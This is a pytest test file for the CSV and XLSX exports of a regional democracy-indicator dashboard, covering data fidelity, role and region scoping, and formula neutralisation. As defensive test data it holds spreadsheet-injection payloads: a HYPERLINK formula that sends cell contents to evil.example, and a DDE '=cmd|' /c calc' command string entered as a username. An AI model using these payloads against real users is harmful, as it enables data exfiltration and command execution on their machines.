"""Exports of tables (CSV, XLSX): contents equal the pages' queries, scope and roles refused
below the UI, formulas neutralised; on SQLite and PostgreSQL with the demo data."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

import ids
from app import create_app, services_of
from auth.accounts import add_account
from auth.audit import audit
from components.export import (
    MAP_FORMATS,
    export_href,
    export_links,
    trend_export_href,
    view_export_href,
)
from export.files import FORMATS, Column, Table, filename, safe_cell, to_csv, to_xlsx
from geodata.registry import Registry
from ingest.entry import Target, reject, save_draft, submit, verify
from queries.catalogue import Indicator, read_catalogue
from queries.entry import entry_table
from queries.indicators import indicator_values
from queries.mapview import View, map_data, parse_view
from queries.schema import audit_log, observation
from settings import Settings
from tests.tiny import BANDUNG, JABAR

PASSWORD = "Laporan-Bulanan-7"
ACCOUNTS = {  # username: (role, region)
    "admin": ("admin", None), "pusat": ("pusat", None), "jabar": ("provinsi", "32"),
    "kotabandung": ("kabkota", "32.73"), "pengamat": ("viewer", None),
}
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
MAP_QUERY = "kode=32&indikator=ikp&tahun=2024"


# ------------------------------------------------------------------------------ files


def _sample() -> Table:
    frame = pl.DataFrame({
        "code": ["32", "32.10", "33"],
        "value": [79.81, None, 1.2300000000000004],
        "rank": [1, None, 2],
        "reason": [HYPERLINK, "@SUM(A1)", "-12.5"],
        "at": [datetime(2026, 5, 4, 9, 30, tzinfo=UTC), None, datetime(2026, 5, 4, 10, 0)],
    })
    columns = (Column("code", "Kode"), Column("value", "Nilai", 2), Column("rank", "Peringkat"),
               Column("reason", "Alasan"), Column("at", "Waktu (UTC)"))
    return Table(name=filename("idi", 2024, "provinsi"), title="=IDI 2024", columns=columns,
                 frame=frame, meta=("Tahun: 2024", "+62 Sumber"), warning="DATA SIMULASI")


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@dataclass
class Sheet:
    """An exported XLSX: the title lines above the table, the header and the data rows."""

    lines: list[str]
    header: list[str]
    rows: list[list[Any]]

    def column(self, name: str) -> list[Any]:
        pos = self.header.index(name)
        return [r[pos] for r in self.rows]

    def by_code(self) -> dict[str, dict[str, Any]]:
        pos = self.header.index("Kode") if "Kode" in self.header else self.header.index("Code")
        return {r[pos]: dict(zip(self.header, r, strict=True)) for r in self.rows}


def read_xlsx(body: bytes, first_header: str) -> Sheet:
    wb = openpyxl.load_workbook(io.BytesIO(body))
    assert wb.sheetnames == ["data"]
    ws = wb.active
    assert ws is not None and not ws.merged_cells.ranges
    cells = [list(r) for r in ws.iter_rows()]
    assert all(c.data_type != "f" for row in cells for c in row)  # no formula anywhere
    values = [[c.value for c in row] for row in cells]
    start = next(i for i, row in enumerate(values) if row[0] == first_header)
    lines = [str(row[0]) for row in values[:start] if row[0] is not None]
    return Sheet(lines, [str(v) for v in values[start]], values[start + 1:])


def test_csv_writes_the_frame_with_formulas_neutralised() -> None:
    rows = read_csv(to_csv(_sample()))
    assert rows[0] == ["Kode", "Nilai", "Peringkat", "Alasan", "Waktu (UTC)"]
    assert rows[1] == ["32", "79.81", "1", "'" + HYPERLINK, "2026-05-04 09:30:00"]
    assert rows[2] == ["32.10", "", "", "'@SUM(A1)", ""]  # missing is empty, never 0
    assert rows[3] == ["33", "1.23", "2", "-12.5", "2026-05-04 10:00:00"]
    assert len(rows) == 4  # a plain table: the title lines are in the XLSX only


def test_xlsx_writes_numbers_as_numbers_and_text_as_text() -> None:
    sheet = read_xlsx(to_xlsx(_sample()), "Kode")
    assert sheet.lines == ["'=IDI 2024", "DATA SIMULASI", "Tahun: 2024", "'+62 Sumber"]
    assert sheet.rows == [
        ["32", 79.81, 1, "'" + HYPERLINK, datetime(2026, 5, 4, 9, 30)],
        ["32.10", None, None, "'@SUM(A1)", None],
        ["33", 1.23, 2, "-12.5", datetime(2026, 5, 4, 10, 0)],
    ]
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(_sample()))).active
    assert ws is not None and ws["B7"].number_format == "#,##0.00"
    assert ws.freeze_panes == "A7" and ws.auto_filter.ref == "A6:E9"


def test_safe_cell_and_file_names() -> None:
    assert safe_cell("\tcmd") == "'\tcmd" and safe_cell("\r=1") == "'\r=1"
    assert filename("idi", 2024, "provinsi") == "mata-garuda_idi_2024_provinsi"
    assert filename("isian", "ikp", 2024, "32.73") == "mata-garuda_isian_ikp_2024_32.73"
    assert filename("x", None, "../a b") == "mata-garuda_x_..-a-b"


def test_links_follow_the_view() -> None:
    href = export_href("isian", {"indikator": "ikp", "tahun": None})
    assert href == "/ekspor/isian?indikator=ikp"
    assert view_export_href(View(indikator="ikp")) == "/ekspor/peta?indikator=ikp"
    href = view_export_href(View(kode="32.73", indikator="idi", tahun=2024, tingkat=None))
    assert href == "/ekspor/peta?kode=32.73&indikator=idi&tahun=2024"
    official = View(kode="32", indikator="idi", tahun=2024, resmi=True)  # hides simulated
    assert view_export_href(official) == "/ekspor/peta?kode=32&indikator=idi&tahun=2024&resmi=1"
    assert trend_export_href(official) == "/ekspor/tren?kode=32&indikator=idi&tahun=2024&resmi=1"
    links = str(export_links(href, "id").to_plotly_json())
    assert "/ekspor/peta.csv?kode=32.73&indikator=idi&tahun=2024" in links
    assert "/ekspor/peta.xlsx?kode=32.73" in links and "Unduh tabel (XLSX)" in links


# --------------------------------------------------------------------------- the app


@dataclass
class Site:
    engine: sa.Engine
    registry: Registry
    client: FlaskClient
    public: FlaskClient  # MATA_GARUDA_PUBLIC_VIEW=true
    catalogue: dict[str, Indicator]


def _write_entries(engine: sa.Engine, registry: Registry) -> None:
    """Jabar verifies Kota Bandung's IKP; a draft and a rejected value carry formulas."""
    with engine.connect() as conn:
        ikp = read_catalogue(conn)["ikp"]
    with engine.begin() as conn:
        bandung = Target(ikp, "32.73", 2024)
        save_draft(conn, registry, BANDUNG, bandung, 41.5, base_version=None, reason=HYPERLINK)
        submit(conn, BANDUNG, bandung, base_version=1)
        verify(conn, JABAR, bandung, base_version=2)
        save_draft(conn, registry, JABAR, Target(ikp, "32.01", 2024), 50.0, base_version=None,
                   reason="=1+1")
        bogor_kota = Target(ikp, "32.71", 2024)
        save_draft(conn, registry, JABAR, bogor_kota, 33.0, base_version=None)
        submit(conn, JABAR, bogor_kota, base_version=1)
        reject(conn, JABAR, bogor_kota, base_version=2, comment="@SUM(A1)")


@pytest.fixture(scope="module")
def site(demo_engine: sa.Engine, registry: Registry,
         tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with demo_engine.begin() as conn:
        for username, (role, region) in ACCOUNTS.items():
            add_account(conn, registry, username=username, role=role, region_code=region,
                        password=PASSWORD)
    _write_entries(demo_engine, registry)
    var = tmp_path_factory.mktemp("var")
    url = demo_engine.url.render_as_string(hide_password=False)
    settings = Settings(var_dir=var, database_url=url, boundaries_dir=var / "none",
                        published_dir=var / "none")
    app = create_app(settings)
    public = create_app(Settings(var_dir=var, database_url=url, boundaries_dir=var / "none",
                                 published_dir=var / "none", public_view=True))
    for a in (app, public):
        a.server.config["TESTING"] = True
    yield Site(demo_engine, registry, app.server.test_client(), public.server.test_client(),
               services_of(app).catalogue)
    for a in (app, public):
        services_of(a).engine.dispose()


@pytest.fixture
def client(site: Site) -> Iterator[FlaskClient]:
    yield site.client
    token = site.client.get_cookie("mg_csrf")
    if token is not None:
        site.client.post("/keluar", data={"csrf_token": token.value})
    site.client.delete_cookie("lang")


def sign_in(client: FlaskClient, username: str) -> None:
    page = client.get("/masuk").get_data(as_text=True)
    match = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert match, page
    response = client.post("/masuk", data={"username": username, "password": PASSWORD,
                                           "csrf_token": match.group(1)})
    assert response.status_code == 302, response.get_data(as_text=True)


def get(client: FlaskClient, path: str) -> bytes:
    """Download an export: a file, never cached."""
    response = client.get(path)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    return response.get_data()


def refused(client: FlaskClient, path: str) -> str:
    """Ask for an export the account may not have; return the error message (403)."""
    response = client.get(path)
    assert response.status_code == 403, response.get_data(as_text=True)[:500]
    return response.get_json()["error"]  # type: ignore[no-any-return]


def _number(text: str) -> float | None:
    return None if text == "" else float(text)


def test_map_export_is_what_the_map_shows(site: Site, client: FlaskClient) -> None:
    sign_in(client, "pengamat")
    view, _ = parse_view("32", {"indikator": "ikp", "tahun": "2024"}, site.registry,
                         site.catalogue)
    with site.engine.connect() as conn:
        expected = map_data(conn, view, site.registry, site.catalogue).frame
    assert expected.height == 27  # the kab/kota of Jawa Barat
    response = client.get(f"/ekspor/peta.csv?{MAP_QUERY}")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="mata-garuda_ikp_2024_kabkota_32.csv"')
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response.get_data())
    header = rows[0]
    assert header[:6] == ["Indikator", "Tahun", "Tingkat", "Kode", "Wilayah", "Nilai"]
    got = {r[3]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    # The region in focus first (the side panel's figure), then the regions drawn.
    assert list(got) == ["32", *expected["code"].to_list()]
    assert got["32"]["Nilai"] == "77.04" and got["32"]["Simulasi"] == "Tidak"
    for row in expected.iter_rows(named=True):
        line = got[row["code"]]
        assert _number(line["Nilai"]) == pytest.approx(row["value"])
        assert line["Kategori"] == (row["category"] or "")
        assert line["Peringkat"] == ("" if row["rank"] is None else str(row["rank"]))
        assert line["Simulasi"] == ("" if row["value"] is None
                                    else "Ya" if row["simulated"] else "Tidak")
    # The verified entry is shown; the draft of 32.01 (50) is not.
    assert got["32.73"]["Nilai"] == "41.5" and got["32.73"]["Simulasi"] == "Tidak"
    assert got["32.73"]["Sumber"] == "Isian terverifikasi: Kesbangpol Kota Bandung"
    assert got["32.73"]["Jenis nilai"] == "Isian kantor terverifikasi"
    assert _number(got["32.01"]["Nilai"]) != 50.0
    assert got["32.01"]["Sumber"] == "DATA SIMULASI"

    sheet = read_xlsx(get(client, f"/ekspor/peta.xlsx?{MAP_QUERY}"), "Indikator")
    assert sheet.lines[0] == "IKP 2024: Jawa Barat"
    assert sheet.lines[1].startswith("DATA SIMULASI: ")
    assert any(line.startswith("Diekspor: ") and line.endswith(" UTC") for line in sheet.lines)
    assert "Wilayah: Jawa Barat · Kab/kota" in sheet.lines
    assert "Sumber nilai (selain simulasi): Bawaslu, Kesbangpol Kota Bandung" in sheet.lines
    values = dict(zip(sheet.column("Kode"), sheet.column("Nilai"), strict=True))
    for row in expected.iter_rows(named=True):
        value = values[row["code"]]
        assert value is None if row["value"] is None else isinstance(value, float)
        assert value == pytest.approx(row["value"])
    assert all(isinstance(r, int) for r in sheet.column("Peringkat") if r is not None)


def test_map_export_views_and_language(site: Site, client: FlaskClient) -> None:
    sign_in(client, "pengamat")
    national = read_csv(get(client, "/ekspor/peta.csv?indikator=idi&tahun=2024"))
    assert len(national) == 1 + 1 + 38 and national[1][2:4] == ["nasional", "ID"]
    jambi = next(r for r in national if r[3] == "15")
    assert (jambi[5], jambi[7], jambi[-3]) == ("82.27", "Baik", "Tidak")
    # IDI has no kab/kota values: the export of Jawa Barat is the provinces' map, as drawn.
    below = read_csv(get(client, "/ekspor/peta.csv?kode=32&indikator=idi&tahun=2024"))
    assert [r[2] for r in below[1:]] == ["provinsi"] * 38
    assert next(r for r in below if r[3] == "32")[5] == "82.8"
    change = read_csv(get(client, "/ekspor/peta.csv?indikator=idi&tahun=2024&tampil=perubahan"
                                  "&dari=2022"))
    assert "Perubahan sejak 2022" in change[0]
    kecamatan = read_csv(get(client, "/ekspor/peta.csv?kode=32.73&indikator=turnout_pilkada"))
    assert kecamatan[1][2:4] == ["kabkota", "32.73"]  # the region in focus first
    assert {r[2] for r in kecamatan[2:]} == {"kecamatan"}
    assert all(r[3].startswith("32.73.") for r in kecamatan[2:])
    client.set_cookie("lang", "en")
    english = read_csv(get(client, f"/ekspor/peta.csv?{MAP_QUERY}"))
    assert english[0][:6] == ["Indicator", "Year", "Level", "Code", "Region", "Value"]
    assert "SIMULATED DATA" in {r[-2] for r in english[1:]}


def test_change_view_exports_name_the_view_and_say_why(site: Site,
                                                      client: FlaskClient) -> None:
    sign_in(client, "pengamat")
    query = "indikator=idi&tahun=2024&tampil=perubahan&dari=2019"
    response = client.get(f"/ekspor/peta.csv?{query}")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="mata-garuda_idi_2024_provinsi_perubahan-2019.csv"')
    rows = read_csv(response.get_data())
    header, lines = rows[0], _by_name(rows)
    reason = "Alasan perubahan tidak dihitung"
    assert header[header.index(reason) - 1:header.index(reason) + 1] == [
        "Perubahan sejak 2019", reason]
    crossed = [r for r in lines if r[reason] == "Metode berubah pada 2021: tidak sebanding"]
    assert len(crossed) >= 30 and all(r["Perubahan sejak 2019"] == "" for r in lines)
    sheet = read_xlsx(get(client, f"/ekspor/peta.xlsx?{query}"), "Indikator")
    assert any(line.startswith("⚠ Metode berubah pada 2021") for line in sheet.lines)

    since_2022 = _by_name(read_csv(get(client, "/ekspor/peta.csv?indikator=idi&tahun=2024"
                                               "&tampil=perubahan&dari=2022")))
    assert "Jenis nilai berbeda (resmi, isian, simulasi)" in {r[reason] for r in since_2022}
    assert any(r["Perubahan sejak 2022"] != "" for r in since_2022)  # published - published
    # The change to the previous year says why it is missing too (2020 to 2021: a break).
    values_2021 = read_csv(get(client, "/ekspor/peta.csv?indikator=idi&tahun=2021"))
    header = values_2021[0]
    assert header[header.index(reason) - 1:header.index(reason) + 1] == [
        "Perubahan dari 2020", reason]
    crossed = [r for r in _by_name(values_2021)
               if r[reason] == "Metode berubah pada 2021: tidak sebanding"]
    assert len(crossed) >= 30 and {r["Perubahan dari 2020"] for r in crossed} == {""}


def _by_name(rows: list[list[str]]) -> list[dict[str, str]]:
    """Return a CSV's data rows as dicts by column title."""
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_province_table_export(site: Site, client: FlaskClient) -> None:
    sign_in(client, "kotabandung")
    response = client.get("/ekspor/tabel.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="mata-garuda_idi_2024_provinsi.xlsx"')
    sheet = read_xlsx(response.get_data(), "Indikator")
    assert sheet.lines[0] == "Indeks Demokrasi Indonesia per provinsi 2024"
    assert any(line.startswith("Sumber nilai (selain simulasi): ") and "BPS" in line
               for line in sheet.lines)
    rows = sheet.by_code()
    assert list(rows)[0] == "ID" and rows["ID"]["Tingkat"] == "nasional"
    assert rows["ID"]["Nilai"] == 79.81
    assert (rows["15"]["Nilai"], rows["15"]["Kategori"], rows["15"]["Simulasi"]) == (
        82.27, "Baik", "Tidak")
    assert len(rows) == 39
    with site.engine.connect() as conn:
        frame = indicator_values(conn, site.catalogue["idi"], "provinsi", 2024)
    assert [rows[c]["Nilai"] for c in frame["code"]] == pytest.approx(frame["value"].to_list())


def _codes(body: bytes) -> list[str]:
    return [r[2] for r in read_csv(body)[1:]]


def test_isian_export_is_scoped(site: Site, client: FlaskClient,
                                caplog: pytest.LogCaptureFixture) -> None:
    sign_in(client, "jabar")
    path = "/ekspor/isian.csv?indikator=ikp&tahun=2024"
    rows = read_csv(get(client, path))
    assert rows[0] == ["Indikator", "Tahun", "Kode", "Wilayah", "Tingkat", "Nilai terakhir",
                       "Status", "Versi", "Dicatat oleh", "Alasan perubahan"]
    got = {r[2]: r for r in rows[1:]}
    assert len(got) == 28 and all(c == "32" or c.startswith("32.") for c in got)
    assert got["32.73"][5:10] == ["41.5", "Diverifikasi", "3", "jabar", ""]
    assert got["32.01"][5:10] == ["50.0", "Draf", "1", "jabar", "'=1+1"]
    assert got["32.71"][6:10] == ["Ditolak", "3", "jabar", "'@SUM(A1)"]
    assert got["32.04"][5:10] == ["", "", "", "", ""]  # nothing entered: empty, never 0
    with site.engine.connect() as conn:
        frame = entry_table(conn, site.registry, site.catalogue["ikp"], 2024, JABAR.scope.area())
    assert list(got) == frame["code"].to_list()

    sheet = read_xlsx(get(client, path.replace(".csv", ".xlsx")), "Indikator")
    xrows = sheet.by_code()
    assert xrows["32.01"]["Alasan perubahan"] == "'=1+1"
    assert xrows["32.01"]["Nilai terakhir"] == 50.0
    assert xrows["32.04"]["Nilai terakhir"] is None and xrows["32.73"]["Versi"] == 3
    assert "Cakupan akun: Operator provinsi, Jawa Barat" in sheet.lines
    assert _codes(get(client, path + "&kode=32.73")) == ["32.73"]

    caplog.set_level(logging.WARNING, logger="mata_garuda.auth")
    refused = client.get(path + "&kode=33")
    assert refused.status_code == 403
    assert "provinsi 32 may not export 33" in refused.get_json()["error"]
    assert any("refused GET /ekspor/isian.csv (jabar)" in m for m in caplog.messages)
    with site.engine.connect() as conn:
        entry = conn.execute(sa.select(audit_log.c.username, audit_log.c.target)
                             .where(audit_log.c.action == "export")
                             .order_by(audit_log.c.id.desc())).first()
    assert entry is not None and tuple(entry) == ("jabar", "isian_ikp_2024_32.73.csv")


def test_isian_export_for_a_kabkota_office(site: Site, client: FlaskClient) -> None:
    sign_in(client, "kotabandung")
    assert _codes(get(client, "/ekspor/isian.csv?indikator=ikp&tahun=2024")) == ["32.73"]
    assert "may not export 32" in refused(client, "/ekspor/isian.csv?indikator=ikp&kode=32")
    assert "may not export 32.01" in refused(client, "/ekspor/isian.csv?indikator=ikp&kode=32.01")


@pytest.mark.parametrize("username", ["pusat", "admin"])
def test_isian_export_for_the_ministry(site: Site, client: FlaskClient, username: str) -> None:
    sign_in(client, username)
    codes = _codes(get(client, "/ekspor/isian.csv?indikator=ikp&tahun=2024"))
    assert codes[0] == "ID" and len(codes) == 1 + 38  # the nation and the provinces
    province = _codes(get(client, "/ekspor/isian.csv?indikator=ikp&kode=32"))
    assert province[0] == "32" and len(province) == 1 + 27  # and its kab/kota


def test_isian_export_refused_to_a_viewer(site: Site, client: FlaskClient) -> None:
    sign_in(client, "pengamat")
    assert "may not" in refused(client, "/ekspor/isian.csv?indikator=ikp&tahun=2024")


@pytest.mark.parametrize("username", ["jabar", "kotabandung", "pengamat"])
def test_kelengkapan_export_refused_to_offices(site: Site, client: FlaskClient, username: str,
                                              caplog: pytest.LogCaptureFixture) -> None:
    sign_in(client, username)
    caplog.set_level(logging.WARNING, logger="mata_garuda.auth")
    assert "may not export kelengkapan" in refused(
        client, "/ekspor/kelengkapan.xlsx?indikator=ikp&tahun=2024")
    assert any(f"({username}): " in m and "may not export kelengkapan" in m
               for m in caplog.messages)


@pytest.mark.parametrize("username", ["admin", "pusat"])
def test_kelengkapan_export_for_admin_and_pusat(site: Site, client: FlaskClient,
                                                username: str) -> None:
    sign_in(client, username)
    body = get(client, "/ekspor/kelengkapan.xlsx?indikator=ikp&tahun=2024")
    sheet = read_xlsx(body, "Indikator")
    assert "Kab/kota: 1 dari 514 mengajukan, 1 diverifikasi" in sheet.lines
    assert "Provinsi: 0 dari 38 mengajukan, 0 diverifikasi" in sheet.lines
    rows = sheet.by_code()
    assert len(rows) == 38 + 514
    assert rows["32.73"]["Status"] == "Diverifikasi" and rows["32.01"]["Status"] == "Draf"
    assert rows["33.01"]["Status"] == "Belum mengisi" and rows["33.01"]["Nilai terakhir"] is None
    jabar = rows["32"]  # a province counts its kab/kota offices; a kab/kota has no count
    assert (jabar["Jumlah kantor kab/kota"], jabar["Kab/kota mengajukan"],
            jabar["Kab/kota diverifikasi"]) == (27, 1, 1)
    assert rows["32.73"]["Jumlah kantor kab/kota"] is None
    offices = read_csv(get(client, "/ekspor/kelengkapan.csv?indikator=ikp&tingkat=kabkota"))
    assert len(offices) == 1 + 514 and {r[2] for r in offices[1:]} == {"kabkota"}


@pytest.mark.parametrize("username", ["pusat", "jabar", "kotabandung", "pengamat"])
def test_audit_export_refused_to_others(site: Site, client: FlaskClient, username: str) -> None:
    sign_in(client, username)
    assert "may not export audit" in refused(client, "/ekspor/audit.csv")


def test_audit_export_for_admin_only(site: Site, client: FlaskClient) -> None:
    # A failed sign-in stores the typed user name: text an attacker controls.
    page = client.get("/masuk").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert token
    client.post("/masuk", data={"username": "=cmd|' /c calc'!a1", "password": "x",
                                "csrf_token": token.group(1)})
    sign_in(client, "admin")
    body = get(client, "/ekspor/audit.csv")
    rows = read_csv(body)
    assert rows[0] == ["Waktu (UTC)", "Pengguna", "Tindakan", "Sasaran", "Rincian", "IP"]
    assert rows[1][1:3] == ["admin", "signin"]  # newest first
    assert ["'=cmd|' /c calc'!a1", "signin.failed"] in [r[1:3] for r in rows]
    assert all(not r[1].startswith(("=", "+", "@")) for r in rows[1:])
    sheet = read_xlsx(get(client, "/ekspor/audit.xlsx"), "Waktu (UTC)")
    assert all(isinstance(v, datetime) for v in sheet.column("Waktu (UTC)"))
    assert "'=cmd|' /c calc'!a1" in sheet.column("Pengguna")


ROUTES = ("peta", "tabel", "isian", "kelengkapan", "audit")
NO_SUCH = "no such export"  # the 404 message of an unknown table or format


@pytest.mark.parametrize("route", ROUTES)
def test_anonymous_exports_go_to_sign_in(site: Site, route: str) -> None:
    closed = site.client.get(f"/ekspor/{route}.csv?indikator=idi")
    assert closed.status_code == 302
    assert closed.headers["Location"] == f"/masuk?next=/ekspor/{route}.csv%3Findikator%3Didi"


@pytest.mark.parametrize("route", ["peta", "tabel"])
def test_public_view_exports_the_public_tables(site: Site, route: str) -> None:
    assert read_xlsx(get(site.public, f"/ekspor/{route}.xlsx"), "Indikator").rows


@pytest.mark.parametrize("route", ["isian", "kelengkapan", "audit"])
def test_public_view_exports_nothing_else(site: Site, route: str) -> None:
    public = site.public.get(f"/ekspor/{route}.xlsx")
    assert public.status_code == 401
    assert public.get_json() == {"error": f"sign in to export {route}"}


@pytest.mark.parametrize(("path", "status", "names"), [
    ("/ekspor/tabel.pdf", 404, NO_SUCH),  # images of the map only: tests/test_export_image.py
    ("/ekspor/peta.CSV", 404, NO_SUCH),
    ("/ekspor/lainnya.csv", 404, NO_SUCH),
    ("/ekspor/peta.csv?indikator=xyz", 400, "'indikator' tidak valid: 'xyz'"),
    ("/ekspor/peta.csv?indikator=idi&tahun=1999", 400, "'tahun' tidak valid: '1999'"),
    ("/ekspor/peta.csv?tahun=dua", 400, "'tahun' tidak valid: 'dua'"),
    ("/ekspor/peta.csv?kode=99", 400, "'kode' tidak valid: '99'"),
    ("/ekspor/peta.csv?kelas=acak", 400, "'kelas' tidak valid: 'acak'"),
    ("/ekspor/tabel.csv?tahun=2030", 400, "'tahun' tidak valid"),
    ("/ekspor/isian.csv?indikator=ikp&kode=32.99", 400, "'kode' tidak valid: '32.99'"),
    ("/ekspor/isian.csv?indikator=ikp&tahun=20x4", 400, "'tahun' tidak valid"),
    ("/ekspor/kelengkapan.xlsx?indikator=nope", 400, "'indikator' tidak valid"),
    ("/ekspor/kelengkapan.csv?tingkat=kecamatan", 400, "'tingkat' tidak valid"),
])
def test_bad_requests(site: Site, client: FlaskClient, path: str, status: int,
                      names: str) -> None:
    sign_in(client, "admin")
    assert_refused(client, path, status, names)


def assert_refused(client: FlaskClient, path: str, status: int, names: str) -> None:
    """Check a bad export request gets ``status`` and a JSON error naming the parameter."""
    response = client.get(path)
    assert response.status_code == status
    assert names in response.get_json()["error"]


def test_page_links_follow_the_view(site: Site, client: FlaskClient) -> None:
    sign_in(client, "jabar")
    token = client.get_cookie("mg_csrf")
    assert token is not None
    shown = {"key": "kabkota:32", "canvas": False,
             "view": {"kode": "32", "indikator": "ikp", "tahun": 2024, "tampil": "nilai",
                      "dari": None, "kelas": "kuantil", "n": 5, "palet": None, "tingkat": None}}
    expected = {
        ids.MAP_EXPORT: "/ekspor/peta.csv?kode=32&indikator=ikp&tahun=2024&kelas=kuantil&n=5",
        ids.ENTRY_EXPORT: "/ekspor/isian.csv?indikator=ikp&tahun=2024&kode=32.73",
    }
    lang = {"id": ids.SHELL_LANG_STORE, "property": "data", "value": "id"}
    for output, inputs, state in (
        ((ids.MAP_EXPORT, "children"), [{"id": ids.MAP_DRAWN, "property": "data", "value": 1}],
         [{"id": ids.MAP_LAYER, "property": "data", "value": shown}, lang]),
        ((ids.ENTRY_EXPORT, "children"),
         [{"id": ids.ENTRY_INDICATOR, "property": "value", "value": "ikp"},
          {"id": ids.ENTRY_PERIOD, "property": "value", "value": "2024"},
          {"id": ids.ENTRY_AREA, "property": "value", "value": "32.73"}], [lang]),
    ):
        response = client.post("/_dash-update-component", headers={"X-CSRFToken": token.value},
                               json={"output": f"{output[0]}.{output[1]}",
                                     "outputs": {"id": output[0], "property": output[1]},
                                     "inputs": inputs, "state": state, "changedPropIds": []})
        assert response.status_code == 200, response.get_data(as_text=True)
        text = json.dumps(response.get_json())
        hrefs = re.findall(r'"href":\s*"([^"]+)"', text)
        formats = MAP_FORMATS if output[0] == ids.MAP_EXPORT else FORMATS
        assert hrefs == [expected[output[0]].replace(".csv", f".{fmt}") for fmt in formats]
        for href in hrefs[:2]:  # every table link downloads a file (images need boundaries:
            assert get(client, href)  # tests/test_export_image.py)


def test_pages_show_the_links(site: Site) -> None:
    from pages import map as map_page
    from pages import table as table_page

    with site.client.application.test_request_context("/wilayah/32?indikator=ikp"):
        page = json.dumps(map_page.layout(kode="32", indikator="ikp").to_plotly_json(),
                          default=lambda c: c.to_plotly_json())
        table = json.dumps(table_page.layout().to_plotly_json(),
                           default=lambda c: c.to_plotly_json())
    assert "/ekspor/peta.xlsx?kode=32&indikator=ikp" in page and ids.MAP_EXPORT in page
    assert "/ekspor/tabel.csv" in table and "/ekspor/tabel.xlsx" in table


# ------------------------------------------------------- text stored before issue 10's fix


def test_exports_survive_any_stored_text(site: Site, client: FlaskClient) -> None:
    # Rows stored before text was checked at the edge: characters an XLSX cannot hold
    # (controls; NUL too where the database holds it: SQLite) and noncharacters.
    nul = "\x00" if site.engine.dialect.name == "sqlite" else ""
    stored = f"rekap{nul}\x01\x0b Bawaslu\x7f\uffff\tfinal"
    shown = f"rekap{chr(0xFFFD) * (len(nul) + 2)} Bawaslu\x7f\ufffd\tfinal"
    now = datetime.now(UTC)
    with site.engine.begin() as conn:
        version = conn.scalar(sa.select(sa.func.max(observation.c.version)).where(
            observation.c.indicator_id == "turnout_pilkada",
            observation.c.region_code == "32.73", observation.c.period == 2024,
            observation.c.source_kind == "entry")) or 0
        conn.execute(sa.insert(observation).values(
            indicator_id="turnout_pilkada", region_code="32.73", period=2024, value=70.0,
            source_kind="entry", status="draft", version=version + 1, source="Kota Bandung",
            source_url="", note="", provenance="entry by kotabandung",
            recorded_by="kotabandung", recorded_at=now, reason=stored))
        audit(conn, "kotabandung", "entry.draft", "turnout_pilkada 32.73 2024", stored)
    sign_in(client, "jabar")
    query = "indikator=turnout_pilkada&tahun=2024&kode=32.73"
    sheet = read_xlsx(get(client, f"/ekspor/isian.xlsx?{query}"), "Indikator")
    assert sheet.by_code()["32.73"]["Alasan perubahan"] == shown
    assert read_csv(get(client, f"/ekspor/isian.csv?{query}"))[1][-1] == shown
    client.post("/keluar", data={"csrf_token": client.get_cookie("mg_csrf").value})
    sign_in(client, "admin")
    sheet = read_xlsx(get(client, "/ekspor/audit.xlsx"), "Waktu (UTC)")
    assert shown in sheet.column("Rincian")


@pytest.mark.parametrize("path", [
    "/ekspor/peta.csv?indikator=idi&tahun=2024", "/ekspor/peta.csv?kode=32&indikator=ikp",
    "/ekspor/tabel.csv", "/ekspor/tren.csv?kode=32&indikator=idi",
])
def test_without_demo_data_no_export_holds_a_simulated_value(
        site: Site, tmp_path: Path, path: str) -> None:
    """MATA_GARUDA_DEMO=false hides the simulated values (still stored) in every export."""
    url = site.engine.url.render_as_string(hide_password=False)
    tables = {}
    for demo in (True, False):
        settings = Settings(var_dir=tmp_path, database_url=url, boundaries_dir=tmp_path / "none",
                            published_dir=tmp_path / "none", demo=demo)
        app = create_app(settings)
        client = app.server.test_client()
        sign_in(client, "pengamat")
        tables[demo] = read_csv(get(client, path))
        services_of(app).engine.dispose()
    for demo, rows in tables.items():
        flags = [i for i, name in enumerate(rows[0]) if name.startswith("Simulasi")]
        shown = {r[i] for r in rows[1:] for i in flags}
        assert ("Ya" in shown) is demo and "Tidak" in shown
        assert any("SIMULASI" in cell for row in rows[1:] for cell in row) is demo
    with site.engine.connect() as conn:  # nothing was deleted
        assert conn.scalar(sa.select(sa.func.count()).where(
            observation.c.source_kind == "simulasi"))
